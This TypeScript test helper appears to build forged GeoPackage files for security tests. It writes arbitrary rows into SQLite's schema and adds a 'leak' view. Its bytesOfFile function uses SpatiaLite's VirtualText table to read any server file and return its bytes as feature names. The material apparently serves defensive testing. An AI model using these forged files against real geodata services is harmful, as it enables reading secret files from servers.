/**
 * GeoPackages that an attacker would bring: well-formed to the eye of a reader, with a schema that has it do something
 * else. What SQLite here does not know (SpatiaLite's tables) is written into its schema by hand.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import gdal from 'gdal-async'
import { FIELD_RD } from './area-files.ts'

let made = 0

/** The field as a GeoPackage stores it, as an SQL literal. */
const FIELD_BLOB = (() => {
  const points = Buffer.alloc(FIELD_RD.length * 16)
  for (const [i, [x, y]] of FIELD_RD.entries()) {
    points.writeDoubleLE(x, i * 16)
    points.writeDoubleLE(y, i * 16 + 8)
  }
  const head = Buffer.alloc(8 + 13)
  head.write('GP', 'latin1')
  head.writeUInt8(1, 3)
  head.writeInt32LE(28992, 4)
  head.writeUInt8(1, 8)
  head.writeUInt32LE(3, 9)
  head.writeUInt32LE(1, 13)
  head.writeUInt32LE(FIELD_RD.length, 17)
  return `X'${Buffer.concat([head, points]).toString('hex')}'`
})()

export interface SchemaRow {
  type: 'table' | 'view' | 'trigger' | 'index'
  name: string
  table?: string
  sql: string
}

/** As GDAL writes it: one layer with the field in it, its index and its triggers. */
export function plainGeoPackage(folder: string, layer = 'veld'): string {
  const path = join(folder, `plain-${made++}.gpkg`)
  const features = [
    { type: 'Feature', properties: { naam: 'Veld' }, geometry: { type: 'Polygon', coordinates: [FIELD_RD] } },
  ]
  const crs = { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::28992' } }
  const source = gdal.open(JSON.stringify({ type: 'FeatureCollection', crs, features }))
  gdal.vectorTranslate(path, source, ['-f', 'GPKG', '-nln', layer]).close()
  source.close()
  return path
}

/**
 * @param rows put into its schema as they are, whether SQLite here understands them or not
 * @param layer a table or view among them, which is made a layer in place of the field's
 */
export function forgedGeoPackage(folder: string, rows: readonly SchemaRow[], layer?: string): Buffer {
  const path = plainGeoPackage(folder)
  const db = new Database(path)
  db.unsafeMode()
  db.pragma('foreign_keys = OFF')
  db.pragma('writable_schema = ON')
  const put = db.prepare('INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES (?, ?, ?, 0, ?)')
  for (const { type, name, table = name, sql } of rows) put.run(type, name, table, sql)
  if (layer !== undefined) {
    for (const known of ['gpkg_contents', 'gpkg_geometry_columns', 'gpkg_ogr_contents'])
      db.prepare(`UPDATE ${known} SET table_name = ?`).run(layer)
    db.prepare("DELETE FROM gpkg_extensions WHERE table_name = 'veld'").run()
    db.prepare("UPDATE gpkg_contents SET identifier = 'layer'").run()
  }
  db.close()
  return readFileSync(path)
}

/** A view named `leak` whose rows, numbered by i, are what a query gives, each with the field as its area. */
export const leakingView = (query: string, from = '(SELECT 1 AS i)'): SchemaRow => ({
  type: 'view',
  name: 'leak',
  sql: `CREATE VIEW leak AS SELECT i AS fid, ${FIELD_BLOB} AS geom, ${query} AS naam FROM ${from}`,
})

/** The bytes of any file in hex, 40 in the name of each area, by SpatiaLite's table over a text file. */
export const bytesOfFile = (folder: string, file: string): Buffer =>
  forgedGeoPackage(
    folder,
    [
      {
        type: 'table',
        name: 'vt',
        sql: `CREATE VIRTUAL TABLE vt USING VirtualText('${file}', 'CP1252', 0, POINT, NONE, '|')`,
      },
      leakingView(
        'substr(t, i * 80 + 1, 80)',
        `(WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 150)
          SELECT i, (SELECT group_concat(hex(COL001), '0A') FROM vt) AS t FROM n)`,
      ),
    ],
    'leak',
  )
